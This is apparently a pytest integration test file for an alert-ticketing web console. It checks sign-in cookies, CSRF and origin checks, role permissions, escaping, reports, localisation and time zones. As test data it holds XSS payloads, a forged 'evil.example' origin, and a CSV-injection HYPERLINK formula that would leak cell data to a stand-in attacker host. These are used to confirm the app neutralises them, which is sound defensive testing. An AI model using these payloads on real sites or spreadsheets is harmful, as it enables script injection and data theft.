"""The console (SPEC §12) over HTTP, on a real Redis: sign-in exchanges a token for an HttpOnly
session cookie, every form needs the session's CSRF token and a same-site origin, each role sees
the actions it may take, alert text is escaped, answers carry a strict CSP, the queue's rows
follow the store, the rules tester explains a payload, windows are planned and ended, reports
come as a page and a CSV, and the language follows the browser or the switch."""

from __future__ import annotations

import re
from datetime import datetime, timedelta, timezone

import pytest

from tests.conftest import ADMIN_SECRET, DESK_SECRET, ENGINEER_SECRET, SOURCE_SECRET, VIEWER_SECRET
from tests.integration.helpers import ALERTS_PERIOD, SOURCE, am_alert, am_body, client_for

pytestmark = pytest.mark.integration
AM = "/api/v1/alerts/alertmanager"


def sign_in(client, secret: str) -> str:
    """Signs in; returns the session's CSRF token (read from the page, as the browser's forms do)."""
    answer = client.post("/console/login", data={"token": secret, "next": "/console/queue"}, follow_redirects=False)
    assert answer.status_code == 303, answer.text
    assert answer.headers["location"] == "/console/queue"
    page = client.get("/console/queue")
    assert page.status_code == 200, page.text
    return re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1)


def new_ticket(client, host: str = "web1", **labels: str) -> str:
    answer = client.post(AM, headers=SOURCE, json=am_body(am_alert(host=host, **labels)))
    assert answer.status_code == 200, answer.text
    return answer.json()["results"][0]["ticket_id"]


def test_sign_in_sets_an_http_only_cookie_and_the_pages_are_guarded(redis_url):
    with client_for(redis_url) as client:
        assert client.get("/console/queue", follow_redirects=False).headers["location"].startswith("/console/login")
        bad = client.post("/console/login", data={"token": "nope"})
        assert bad.status_code == 401 and "not known" in bad.text
        sender = client.post("/console/login", data={"token": SOURCE_SECRET})
        assert sender.status_code == 403
        answer = client.post("/console/login", data={"token": DESK_SECRET}, follow_redirects=False)
        cookie = answer.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict") and DESK_SECRET not in cookie
        page = client.get("/console/queue")
        assert page.status_code == 200 and "bootstrap-service_desk" in page.text
        csp = page.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp
        assert page.headers["cache-control"] == "no-store"


def test_a_form_without_the_csrf_token_or_from_another_site_is_refused(redis_url):
    with client_for(redis_url) as client:
        ticket = new_ticket(client)
        csrf = sign_in(client, DESK_SECRET)
        path = f"/console/tickets/{ticket}/actions/assign"
        assert client.post(path, data={"group": "ops"}).status_code == 403
        assert client.post(path, data={"group": "ops", "csrf": "forged"}).status_code == 403
        elsewhere = client.post(path, data={"group": "ops", "csrf": csrf}, headers={"Origin": "https://evil.example"})
        assert elsewhere.status_code == 403
        assert client.get(f"/api/v1/tickets/{ticket}", headers={"Authorization": f"Bearer {DESK_SECRET}"}).json()["ticket"]["status"] == "open"


def test_the_lifecycle_through_the_console_with_answers_in_words(redis_url):
    with client_for(redis_url) as client:
        ticket = new_ticket(client)
        csrf = sign_in(client, DESK_SECRET)
        page = client.get(f"/console/tickets/{ticket}").text
        assert 'data-action="assign"' in page and 'data-action="accept"' not in page  # (open: assign, resolve, comment)
        missing = client.post(f"/console/tickets/{ticket}/actions/assign", data={"csrf": csrf})
        assert missing.status_code == 400 and "needs a value" in missing.text
        done = client.post(f"/console/tickets/{ticket}/actions/assign", data={"csrf": csrf, "group": "dba", "assignee": "li"},
                           follow_redirects=False)
        assert done.status_code == 303 and done.headers["location"] == f"/console/tickets/{ticket}?done=assign"
        conflict = client.post(f"/console/tickets/{ticket}/actions/close", data={"csrf": csrf, "closure_code": "completed"})
        assert conflict.status_code in (403, 409)
        csrf = sign_in(client, ENGINEER_SECRET)
        assert client.post(f"/console/tickets/{ticket}/actions/accept", data={"csrf": csrf}).status_code == 200
        resolved = client.post(f"/console/tickets/{ticket}/actions/resolve",
                               data={"csrf": csrf, "resolution_code": "resolved_by_workaround", "solution": "restarted"})
        assert resolved.status_code == 200 and 'data-status="resolved"' in resolved.text
        illegal = client.post(f"/console/tickets/{ticket}/actions/accept", data={"csrf": csrf})
        assert illegal.status_code == 409 and "not allowed" in illegal.text
        csrf = sign_in(client, DESK_SECRET)
        closed = client.post(f"/console/tickets/{ticket}/actions/close", data={"csrf": csrf, "closure_code": "completed"})
        assert closed.status_code == 200 and 'data-status="closed"' in closed.text


def test_a_viewer_sees_no_action_and_may_take_none(redis_url):
    with client_for(redis_url) as client:
        ticket = new_ticket(client)
        csrf = sign_in(client, VIEWER_SECRET)
        page = client.get(f"/console/tickets/{ticket}").text
        assert "data-action=" not in page and 'id="no-actions"' in page
        assert client.post(f"/console/tickets/{ticket}/actions/assign", data={"csrf": csrf, "group": "x"}).status_code == 403


HOSTILE = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "</textarea><svg onload=alert(1)>",
           "javascript:alert(1)", "\u202e\u0000?"]


@pytest.mark.parametrize("text", HOSTILE)
def test_alert_text_is_rendered_as_text(redis_url, text):
    with client_for(redis_url) as client:
        ticket = new_ticket(client, team=text)
        client.post(AM, headers=SOURCE, json=am_body(am_alert(host="web2", summary=text)))
        sign_in(client, DESK_SECRET)
        for path in (f"/console/tickets/{ticket}", "/console/queue", "/console/queue/rows"):
            body = client.get(path).text
            assert "<script>alert" not in body and "<img src=x" not in body and "<svg onload" not in body
        if "<" in text:
            assert "&lt;" in client.get(f"/console/tickets/{ticket}").text


def test_the_queue_rows_follow_the_store_sorted_by_priority(redis_url):
    with client_for(redis_url) as client:
        sign_in(client, VIEWER_SECRET)
        assert "Nothing is waiting" in client.get("/console/queue/rows").text
        first = new_ticket(client, host="web1")
        second = new_ticket(client, host="db1", severity="critical")
        rows = client.get("/console/queue/rows").text
        assert first in rows and second in rows
        assert client.get("/console/queue/rows?ci=db1").text.count("data-ticket=") == 1
        assert client.get("/console/queue/rows?breached=true").text.count("data-ticket=") == 0


def test_the_rules_tester_is_for_the_administrator_and_explains_a_payload(redis_url):
    with client_for(redis_url) as client:
        sign_in(client, DESK_SECRET)
        assert client.get("/console/rules").status_code == 403
        csrf = sign_in(client, ADMIN_SECRET)
        page = client.get("/console/rules")
        assert page.status_code == 200 and 'id="generation"' in page.text
        import json
        payload = json.dumps(am_body(am_alert(name="Watchdog", host="prom")))
        answer = client.post("/console/rules", data={"csrf": csrf, "source": "alertmanager", "payload": payload})
        assert answer.status_code == 200 and 'id="verdicts"' in answer.text and "watchdog" in answer.text.lower()
        bad = client.post("/console/rules", data={"csrf": csrf, "source": "alertmanager", "payload": "{"})
        assert bad.status_code == 400 and 'id="error"' in bad.text


def test_maintenance_windows_are_planned_and_ended_in_the_console(redis_url):
    with client_for(redis_url) as client:
        csrf = sign_in(client, DESK_SECRET)
        now = datetime.now(timezone.utc)
        form = {"csrf": csrf, "title": "db9 <disk> swap", "starts_at": (now - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M"),
                "ends_at": (now + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"), "matchers": "ci eq db9\nlabel.env in prod, stage",
                "change_id": "CHG-7"}
        invalid = client.post("/console/maintenance", data={**form, "matchers": "ci near db9"})
        assert invalid.status_code == 400 and "not valid" in invalid.text
        everything = client.post("/console/maintenance", data={**form, "matchers": ""})
        assert everything.status_code == 400  # (a window of every alert needs the explicit box)
        done = client.post("/console/maintenance", data=form, follow_redirects=False)
        assert done.status_code == 303
        window_id = done.headers["location"].split("done=")[1]
        page = client.get("/console/maintenance").text
        assert window_id in page and "db9 &lt;disk&gt; swap" in page and "CHG-7" in page
        assert client.post(f"/console/maintenance/{window_id}/end", data={"csrf": csrf}).status_code == 200
        api = client.get(f"/api/v1/maintenance/{window_id}", headers={"Authorization": f"Bearer {VIEWER_SECRET}"}).json()
        assert api["window"]["ended_at"] and [a["action"] for a in api["window"]["audit"]] == ["created", "ended"]
        csrf = sign_in(client, VIEWER_SECRET)
        assert client.post("/console/maintenance", data={**form, "csrf": csrf}).status_code == 403


def test_heartbeats_and_reports_with_their_csv(redis_url):
    with client_for(redis_url) as client:
        client.post("/api/v1/heartbeats/backup-job", headers=SOURCE)
        new_ticket(client)
        sign_in(client, VIEWER_SECRET)
        assert "backup-job" in client.get("/console/heartbeats").text
        page = client.get("/console/reports", params=ALERTS_PERIOD)
        assert page.status_code == 200 and 'id="chart-priority"' in page.text and "<svg" in page.text
        csv = client.get("/console/reports.csv", params=ALERTS_PERIOD)
        assert csv.headers["content-type"].startswith("text/csv") and csv.text.startswith("scope,key,indicator,value,ratio")
        assert client.get("/console/reports?from=yesterday").status_code == 400


def test_the_csv_report_keeps_a_ci_named_like_a_formula_as_text(redis_url):
    """CSV injection (OWASP): a CI's name comes from an alert's labels; a spreadsheet would run
    one that starts with = + - @ as a formula."""
    with client_for(redis_url) as client:
        for name in ('=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)", "-2+3", "web1"):
            new_ticket(client, host="x", ci=name)
        sign_in(client, VIEWER_SECRET)
        csv = client.get("/console/reports.csv", params={**ALERTS_PERIOD, "by": "ci"}).text
        keys = {line.split(",")[1] for line in csv.splitlines()[1:] if line.startswith("ci,")}
        assert {"'@SUM(1+1)", "'-2+3", "web1"} <= keys and any(k.startswith('"\'=HYPERLINK') for k in keys), keys


def test_the_language_follows_the_browser_and_the_switch(redis_url):
    with client_for(redis_url) as client:
        sign_in(client, DESK_SECRET)
        assert "Unresolved incidents" in client.get("/console/queue").text
        chinese = client.get("/console/queue", headers={"Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8"}).text
        assert 'lang="zh-CN"' in chinese and "未解决" in chinese
        csrf = re.search(r'name="csrf-token" content="([^"]+)"', chinese).group(1)
        client.post("/console/language", data={"csrf": csrf, "lang": "zh", "next": "/console/queue"})
        assert "未解决" in client.get("/console/queue").text


def test_assets_are_cached_and_served_without_a_network(redis_url):
    with client_for(redis_url) as client:
        page = client.get("/console/login").text
        script = re.search(r'src="(/console/static/console\.js\?v=[0-9a-f]+)"', page).group(1)
        answer = client.get(script)
        assert answer.status_code == 200 and "immutable" in answer.headers["cache-control"]
        assert "http://" not in page and "https://" not in page
        assert client.get("/console/static/nope.js").status_code == 404


def test_a_storm_masters_page_links_its_newest_duplicates_and_counts_the_rest(redis_url):
    with client_for(redis_url) as client:
        sign_in(client, DESK_SECRET)
        master = new_ticket(client, host="storm1")
        body = am_body(*(am_alert(host="storm1", starts=f"2026-11-22T04:{n // 60:02d}:{n % 60:02d}Z") for n in range(150)))
        assert client.post(AM, headers=SOURCE, json=body).status_code == 200
        page = client.get(f"/console/tickets/{master}").text
        line = re.search(r'<p id="duplicates">(.*?)</p>', page, re.S).group(1)
        assert "50 earlier, then" in line
        assert re.findall(r"/console/tickets/([^\"]+)", line) == [f"{master}-{n}" for n in range(51, 151)]
        chinese = client.get(f"/console/tickets/{master}", headers={"Accept-Language": "zh-CN"}).text
        assert "更早的 50 条从略" in chinese


def test_a_flapping_masters_page_shows_the_first_and_newest_timeline_entries_and_counts_the_rest(redis_url):
    with client_for(redis_url) as client:
        sign_in(client, DESK_SECRET)
        starts = [f"2026-11-22T0{4 + n // 60}:{n % 60:02d}:00Z" for n in range(130)]
        master = None
        for moment in starts:   # fires, recovers: each flap a reopening and a resolution
            fired = client.post(AM, headers=SOURCE, json=am_body(am_alert(host="flappy1", starts=moment))).json()
            master = master or fired["results"][0]["ticket_id"]
            client.post(AM, headers=SOURCE, json=am_body(am_alert(host="flappy1", starts=moment, status="resolved")))
        view = {"Authorization": f"Bearer {VIEWER_SECRET}"}
        api = client.get(f"/api/v1/tickets/{master}", headers=view).json()["ticket"]
        entries = api["timeline_omitted"] + len(api["timeline"])
        assert entries > 250 and len(api["timeline"]) == 220
        # the API pages through every entry by its place; a ticket's answers show the first and newest
        whole, offset = [], 0
        while offset is not None:
            page = client.get(f"/api/v1/tickets/{master}/timeline", headers=view, params={"offset": offset, "limit": 100}).json()
            assert page["total"] == entries
            whole, offset = whole + page["entries"], page["next_offset"]
        assert len(whole) == entries and whole[0]["action"] == "create"
        assert api["timeline"] == whole[:20] + whole[-200:]
        listed = client.get("/api/v1/tickets?ci=flappy1", headers=view).json()["tickets"]
        assert [(t["id"], len(t["timeline"]), t["timeline_omitted"]) for t in listed] == [(master, 220, entries - 220)]
        answer = client.post(f"/api/v1/tickets/{master}/actions/comment", json={"note": "flapping"},
                             headers={"Authorization": f"Bearer {DESK_SECRET}"}).json()
        assert len(answer["timeline"]) == 220 and answer["timeline"][-1]["note"] == "flapping"
        assert answer["timeline_omitted"] == entries + 1 - 220
        entries += 1
        for query in ("offset=-1", "limit=0", "limit=1001"):
            assert client.get(f"/api/v1/tickets/{master}/timeline?{query}", headers=view).status_code == 400
        assert client.get("/api/v1/tickets/INC-NONE-1/timeline", headers=view).status_code == 404
        page = client.get(f"/console/tickets/{master}").text
        timeline = re.search(r'<ol class="timeline">(.*?)</ol>', page, re.S).group(1)
        assert timeline.count("<li><time>") == 220
        assert f"{entries - 220} entries between are left out here" in timeline
        assert f"{entries - 220} 条记录此处从略" in client.get(f"/console/tickets/{master}", headers={"Accept-Language": "zh-CN"}).text


def test_the_console_shows_and_reads_times_in_its_time_zone(redis_url):
    """``display_timezone``: a desk in Shanghai plans 02:00 its time and reads 02:00; the API and
    the rules stay in UTC."""
    with client_for(redis_url, ALERTGATE_DISPLAY_TIMEZONE="Asia/Shanghai") as client:
        csrf = sign_in(client, DESK_SECRET)
        tomorrow = (datetime.now(timezone.utc) + timedelta(days=2)).strftime("%Y-%m-%d")
        page = client.get("/console/maintenance").text
        assert "Starts (Asia/Shanghai)" in page and "its days and hours are in Asia/Shanghai" in page
        done = client.post("/console/maintenance", data={
            "csrf": csrf, "title": "night patch", "starts_at": f"{tomorrow}T02:00", "ends_at": f"{tomorrow}T04:00",
            "matchers": "ci eq db9"}, follow_redirects=False)
        assert done.status_code == 303, done.text
        window_id = done.headers["location"].split("done=")[1]
        api = client.get(f"/api/v1/maintenance/{window_id}", headers={"Authorization": f"Bearer {VIEWER_SECRET}"}).json()
        day_before = (datetime.fromisoformat(tomorrow) - timedelta(days=1)).strftime("%Y-%m-%d")
        assert api["window"]["starts_at"] == f"{day_before}T18:00:00Z" and api["window"]["timezone"] == "Asia/Shanghai"
        assert f"{tomorrow} 02:00 UTC+08:00 – {tomorrow} 04:00 UTC+08:00" in client.get("/console/maintenance").text
        moment = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
        master = client.post(AM, headers=SOURCE, json=am_body(am_alert(host="tz1", starts=moment))).json()["results"][0]["ticket_id"]
        created = client.get(f"/api/v1/tickets/{master}", headers={"Authorization": f"Bearer {VIEWER_SECRET}"}).json()
        local = datetime.fromisoformat(created["ticket"]["created_at"].replace("Z", "+00:00")) + timedelta(hours=8)
        assert f"{local:%Y-%m-%d %H:%M} UTC+08:00" in client.get(f"/console/tickets/{master}").text
        today = f"{datetime.now(timezone.utc) + timedelta(hours=8):%Y-%m-%d}"
        report = client.get("/console/reports.csv", params={"from": today, "to": today}).text
        assert "overall,all,incidents,1," in report
    with pytest.raises(Exception, match="display_timezone"):
        with client_for(redis_url, ALERTGATE_DISPLAY_TIMEZONE="Mars/Olympus"):
            pass
